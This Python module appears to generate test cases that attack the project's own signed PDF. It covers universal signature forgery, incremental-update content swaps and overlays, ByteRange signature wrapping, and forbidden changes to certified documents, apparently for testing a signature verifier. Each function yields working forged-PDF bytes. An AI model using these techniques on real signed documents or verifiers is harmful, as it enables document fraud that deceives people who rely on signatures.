"""Attacks on a sealed PDF, made from one of our own: each a name and the hostile bytes.

The classes are those of docs/attacks.md: P1 universal signature forgery, P2 incremental
saving, P3 signature wrapping, P5 certification attacks. No data of others is used.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator
from io import BytesIO

import pikepdf
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

_HOLE = re.compile(rb"/Contents <[0-9A-Fa-f]+>")
_RANGE = re.compile(rb"/ByteRange \[[^\]]*\] *")
_REFERENCE = re.compile(rb"/Reference \[ <<.*?>>\n>> \]", re.DOTALL)


def _same_length(data: bytes, found: re.Match[bytes], text: bytes) -> bytes:
    """Put a text in the place of another without moving anything behind it."""
    assert len(text) <= len(found[0])
    return data[: found.start()] + text.ljust(len(found[0])) + data[found.end() :]


def _search(pattern: re.Pattern[bytes] | bytes, data: bytes) -> re.Match[bytes]:
    found = list(re.finditer(pattern, data))
    assert found, pattern
    return found[-1]


def forgeries(data: bytes) -> dict[str, bytes]:
    """P1: what an entry of the signature dictionary may be replaced by or lack."""
    hole, span = _search(_HOLE, data), _search(_RANGE, data)
    digits = len(hole[0]) - len(b"/Contents <>")
    made = {
        "contents-missing": (hole, b""),
        "contents-null": (hole, b"/Contents null"),
        "contents-empty-hex": (hole, b"/Contents <>"),
        "contents-empty-string": (hole, b"/Contents ()"),
        "contents-number": (hole, b"/Contents 0"),
        "contents-name": (hole, b"/Contents /None"),
        "contents-array": (hole, b"/Contents [<00>]"),
        "contents-zeros": (hole, b"/Contents <" + b"0" * digits + b">"),
        "contents-one-byte": (hole, b"/Contents <30>"),
        "contents-literal": (hole, b"/Contents (" + b"0" * digits + b")"),
        "range-missing": (span, b""),
        "range-null": (span, b"/ByteRange null"),
        "range-empty": (span, b"/ByteRange []"),
        "range-zeros": (span, b"/ByteRange [0 0 0 0]"),
        "range-names": (span, b"/ByteRange [/a /b /c /d]"),
        "range-string": (span, b"/ByteRange (0 1 2 3)"),
        "range-three": (span, b"/ByteRange [0 100 200]"),
        "subfilter-missing": (_search(rb"/SubFilter /ETSI.CAdES.detached", data), b""),
        "subfilter-null": (_search(rb"/SubFilter /ETSI.CAdES.detached", data), b"/SubFilter null"),
        "subfilter-unknown": (
            _search(rb"/SubFilter /ETSI.CAdES.detached", data),
            b"/SubFilter /adbe.x509.rsa_sha1",
        ),
        "filter-missing": (_search(rb"/Filter /Adobe.PPKLite", data), b""),
        "filter-null": (_search(rb"/Filter /Adobe.PPKLite", data), b"/Filter null"),
        "time-missing": (_search(rb"/M \(D\\07220260601040000Z\)", data), b""),
        "reference-missing": (_search(_REFERENCE, data), b""),
        "reference-null": (_search(_REFERENCE, data), b"/Reference null"),
        "type-wrong": (_search(rb"/Type /Sig\n", data), b"/Type /Foo"),
        "field-type-wrong": (_search(rb"/FT /Sig", data), b"/FT /Tx"),
        "value-missing": (_search(rb"/V \d+ 0 R", data), b""),
        "value-null": (_search(rb"/V \d+ 0 R", data), b"/V null"),
    }
    return {name: _same_length(data, found, text) for name, (found, text) in made.items()}


# --- P2: incremental saving ---------------------------------------------------------------------


def _payloads(data: bytes) -> dict[str, bytes]:
    """New objects that change what is shown: the page's content, the page tree, an overlay."""
    with pikepdf.open(BytesIO(data)) as pdf:
        page = pdf.pages[0].obj
        content, number = page.Contents.objgen[0], page.objgen[0]
        pages, size = pdf.Root.Pages.objgen[0], int(pdf.trailer.Size)
    text = b"BT /F1 30 Tf 100 400 Td <4F2A9020> Tj ET"
    stream = b"<< /Length %d >>\nstream\n%s\nendstream" % (len(text), text)
    forged_page = (
        b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] /Contents %d 0 R "
        b"/Resources << >> >>"
    )
    return {
        "content": b"%d 0 obj\n%s\nendobj\n" % (content, stream),
        "pages": b"%d 0 obj\n<< /Type /Pages /Count 1 /Kids [%d 0 R] >>\nendobj\n" % (pages, size)
        + b"%d 0 obj\n%s\nendobj\n" % (size, forged_page % (pages, size + 1))
        + b"%d 0 obj\n%s\nendobj\n" % (size + 1, stream),
        "overlay": b"%d 0 obj\n<< /Type /Annot /Subtype /FreeText /Rect [0 0 595 842] "
        b"/DA (/F1 30 Tf) /Contents (x) /P %d 0 R >>\nendobj\n" % (size, number),
    }


def _tables(data: bytes) -> dict[str, Callable[[bytes], bytes]]:
    """Ways to end an update: with the cross-references missing, empty, odd or right."""
    previous = int(re.findall(rb"startxref\s+(\d+)", data)[-1])
    with pikepdf.open(BytesIO(data)) as pdf:
        root, size = pdf.Root.objgen[0], int(pdf.trailer.Size)
    trailer = b"trailer\n<< /Root %d 0 R /Size %d /Prev %d >>\n" % (root, size + 2, previous)

    def entries(body: bytes) -> bytes:
        rows = [
            b"%d 1\n%010d 00000 n \n" % (int(found[1]), len(data) + 1 + found.start())
            for found in re.finditer(rb"(?:^|(?<=\n))(\d+) 0 obj", body)
        ]
        return b"xref\n" + b"".join(rows)

    def at(body: bytes) -> int:
        return len(data) + 1 + len(body)

    return {
        "no-xref": lambda body: trailer + b"startxref\n%d\n%%%%EOF\n" % previous,
        "empty-xref": lambda body: (
            b"xref\n0 0\n" + trailer + b"startxref\n%d\n%%%%EOF\n" % at(body)
        ),
        "no-trailer": lambda body: entries(body) + b"startxref\n%d\n%%%%EOF\n" % at(body),
        "wrong-startxref": lambda body: entries(body) + trailer + b"startxref\n7\n%%EOF\n",
        "eof-only": lambda body: b"%%EOF\n",
        "startxref-comment": lambda body: (
            entries(body) + trailer + b"startxref %% x\n%d\n%%%%EOF\n" % at(body)
        ),
        "right": lambda body: entries(body) + trailer + b"startxref\n%d\n%%%%EOF\n" % at(body),
        "hybrid": lambda body: (
            entries(body)
            + trailer.replace(b"/Prev", b"/XRefStm %d /Prev" % at(body))
            + b"startxref\n%d\n%%%%EOF\n" % at(body)
        ),
        "nothing": lambda body: b"",
    }


def updates(data: bytes) -> dict[str, bytes]:
    """P2: every payload with every ending."""
    return {
        f"{name}-{ending}": data + b"\n" + body + end(body)
        for name, body in _payloads(data).items()
        for ending, end in _tables(data).items()
    }


# --- P3: wrapping -------------------------------------------------------------------------------


def wrappings(data: bytes) -> dict[str, bytes]:
    """P3: the ranges name other bytes than those between which the value stands."""
    span, hole = _search(_RANGE, data), _search(_HOLE, data)
    first, second = hole.start() + len(b"/Contents "), hole.end()
    length = len(data) - second
    ranges = {
        "first-offset-not-zero": (1, first - 1, second, length),
        "negative": (0, -first, second, length),
        "huge": (0, first, second, 10**9),
        "huge-first": (0, 10**9, second, length),
        "overlapping": (0, second, first, len(data) - first),
        "second-shorter": (0, first, second, length - 10),
        "second-empty": (0, first, second, 0),
        "gap-wider": (0, first - 20, second, length),
        "gap-wider-behind": (0, first, second + 20, length - 20),
        "gap-narrower": (0, first + 2, second, length),
        "gap-without-brackets": (0, first + 1, second - 1, length + 1),
        "swapped": (second, length, 0, first),
        "no-gap": (0, second, second, length),
        "second-beyond-the-end": (0, first, len(data) + 5, 5),
    }
    made = {
        name: _same_length(data, span, b"/ByteRange [%d %d %d %d]" % numbers)
        for name, numbers in ranges.items()
    }
    six = b"/ByteRange [0 %d %d %d 0 1]" % (first, second, length)
    made["three-pairs"] = _same_length(data, span, six)
    real = b"/ByteRange [0 %d.0 %d %d]" % (first, second, length)
    made["real-numbers"] = _same_length(data, span, real)
    tail = data[second:]
    moved = data[:second] + b"\n%evil\n" + tail
    made["tail-moved"] = moved.replace(
        span[0], (b"/ByteRange [0 %d %d %d]" % (first, second + 7, length)).ljust(len(span[0]))
    )
    made["tail-copied"] = (data + tail).replace(
        span[0],
        (b"/ByteRange [0 %d %d %d]" % (first, len(data), length)).ljust(len(span[0])),
    )
    return made


# --- P5: changes to a certified document ---------------------------------------------------------


def certified_changes(data: bytes) -> dict[str, bytes]:
    """P5: well-formed updates of a document whose certification allows none."""
    return {name: _updated(data, change) for name, change in _changes()}


def _updated(data: bytes, change: Callable[[IncrementalPdfFileWriter], None]) -> bytes:
    writer = IncrementalPdfFileWriter(BytesIO(data))
    change(writer)
    output = BytesIO()
    writer.write(output)
    return output.getvalue()


def _changes() -> Iterator[tuple[str, Callable[[IncrementalPdfFileWriter], None]]]:
    for kind in ("FreeText", "Stamp", "Redact", "Square", "Link", "Widget"):
        yield f"annotation-{kind.lower()}", lambda writer, kind=kind: _annotate(writer, kind)
    yield "perms-removed", _remove_permissions
    yield "certification-raised", _raise_certification
    yield "certification-stripped", _strip_certification
    yield "metadata-replaced", _replace_metadata
    yield "page-content-added", _add_content
    yield "dss-alone", _add_dss
    yield "attachment-replaced", _replace_attachment
    yield "nothing-but-a-revision", lambda writer: writer.update_root()


def _annotate(writer: IncrementalPdfFileWriter, kind: str) -> None:
    page = writer.find_page_for_modification(0)[0].get_object()
    rectangle = generic.ArrayObject([generic.NumberObject(n) for n in (50, 50, 500, 700)])
    note = writer.add_object(
        generic.DictionaryObject(
            {
                pdf_name("/Type"): pdf_name("/Annot"),
                pdf_name("/Subtype"): pdf_name(f"/{kind}"),
                pdf_name("/Rect"): rectangle,
                pdf_name("/Contents"): generic.pdf_string("x"),
            }
        )
    )
    page["/Annots"] = generic.ArrayObject([*page.get("/Annots", ()), note])
    writer.update_container(page)


def _remove_permissions(writer: IncrementalPdfFileWriter) -> None:
    del writer.root["/Perms"]
    writer.update_root()


def _signature(writer: IncrementalPdfFileWriter) -> generic.DictionaryObject:
    signature: generic.DictionaryObject = writer.root["/Perms"]["/DocMDP"]
    return signature


def _raise_certification(writer: IncrementalPdfFileWriter) -> None:
    signature = _signature(writer)
    signature["/Reference"][0]["/TransformParams"]["/P"] = generic.NumberObject(3)
    writer.update_container(signature)


def _strip_certification(writer: IncrementalPdfFileWriter) -> None:
    signature = _signature(writer)
    del signature["/Reference"]
    writer.update_container(signature)


def _replace_metadata(writer: IncrementalPdfFileWriter) -> None:
    writer.root["/Metadata"] = writer.add_object(
        generic.StreamObject({pdf_name("/Type"): pdf_name("/Metadata")}, stream_data=b"<x/>")
    )
    writer.update_root()


def _add_content(writer: IncrementalPdfFileWriter) -> None:
    stream = writer.add_object(generic.StreamObject(stream_data=b"0 0 300 300 re f"))
    writer.add_stream_to_page(0, stream)


def _add_dss(writer: IncrementalPdfFileWriter) -> None:
    writer.root["/DSS"] = writer.add_object(generic.DictionaryObject())
    writer.update_root()


def _replace_attachment(writer: IncrementalPdfFileWriter) -> None:
    names = writer.root["/Names"]["/EmbeddedFiles"]["/Names"]
    names[1] = writer.add_object(generic.DictionaryObject())
    writer.update_container(names)
